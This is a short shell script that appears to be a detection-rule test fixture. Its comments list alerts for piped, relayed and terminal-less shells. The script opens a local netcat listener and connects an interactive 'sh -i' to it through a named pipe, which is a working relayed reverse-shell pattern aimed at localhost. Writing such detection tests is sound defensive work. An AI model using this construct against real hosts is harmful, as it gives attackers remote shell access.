# in: host nc.traditional
# fires: execution-pipe-shell execution-relayed-shell execution-shell-without-terminal
sleep 2 | nc.traditional -l -p 47444 -q 1 > /dev/null &
sleep 0.3
way=$(mktemp -u)
mkfifo "$way"
sh -i < "$way" 2>&1 | nc.traditional -q 1 127.0.0.1 47444 > "$way"
rm "$way"
